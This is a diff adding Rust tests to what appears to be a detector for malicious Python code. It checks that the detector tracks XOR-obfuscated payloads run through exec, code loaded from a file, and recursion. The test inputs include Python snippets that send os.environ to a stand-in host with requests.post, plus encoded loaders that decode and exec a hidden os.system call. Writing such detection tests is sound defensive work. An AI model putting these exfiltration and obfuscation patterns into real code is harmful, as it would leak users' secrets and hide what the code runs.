@@ -173,3 +173,49 @@ fn a_name_that_a_class_body_declares_global_is_one_of_the_module() {
         "def go():\n    class A:\n        global found\n        found = str(os.environ)\n    found = 0\ngo()\nrequests.post('https://a.invalid', data=found)",
     ]);
 }
+
+#[test]
+fn what_a_loop_decodes_is_decoded_where_all_other_branches_raise() {
+    let text: String = "import os\nos.system('echo a')\n# ".to_owned() + &"padding ".repeat(40);
+    let bytes: Vec<String> = text.bytes().map(|byte| (byte ^ 7).to_string()).collect();
+    let bytes = bytes.join(", ");
+    for body in [
+        "if os.getpid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
+        "if os.getpid() < 0:\n            raise SystemError\n        else:\n            out.append(c ^ 7)",
+        "if os.getpid() < 0:\n            raise SystemError\n        elif os.getppid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
+        "if os.getpid() < 0:\n            raise SystemError\n        out.append(c ^ 7)",
+        "try:\n            out.append(c ^ 7)\n        except ValueError:\n            raise",
+    ] {
+        let source = format!(
+            "import os\ndef unpack(data):\n    out = bytearray()\n    for c in data:\n        {body}\n    return bytes(out)\nexec(unpack([{bytes}]))\n"
+        );
+        let is_decoded = events_of(&source).iter().any(|event| &*event.name == "os.system");
+        assert!(is_decoded, "{body}");
+    }
+}
+
+#[test]
+fn what_is_put_together_in_a_branch_comes_from_where_its_parts_do() {
+    for body in [
+        "out.append(c ^ 7)",
+        "if os.getpid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
+        "if os.getpid() > 0:\n            out.append(c ^ 7)",
+        "try:\n            out.append(c ^ 7)\n        except ValueError:\n            pass",
+    ] {
+        let source = format!(
+            "import os\ndef unpack(data):\n    out = bytearray()\n    for c in data:\n        {body}\n    return bytes(out)\nexec(unpack(open('data.bin', 'rb').read()))\n"
+        );
+        let code = event(&source, "exec").arguments.into_iter().find(|argument| argument.role == Role::Code);
+        let is_file = code.is_some_and(|code| code.origins.kinds.contains(OriginKind::File));
+        assert!(is_file, "{body}");
+    }
+}
+
+#[test]
+fn a_recursion_that_counts_down_comes_to_its_end() {
+    for test in ["n", "n > 0", "n != 0"] {
+        assert_sent(&[&format!(
+            "def collect():\n    return dict(os.environ)\ndef send(v):\n    requests.post('https://a.invalid', json=v)\ndef go(n):\n    if {test}:\n        return go(n - 1)\n    send(collect())\ngo(3)"
+        )]);
+    }
+}
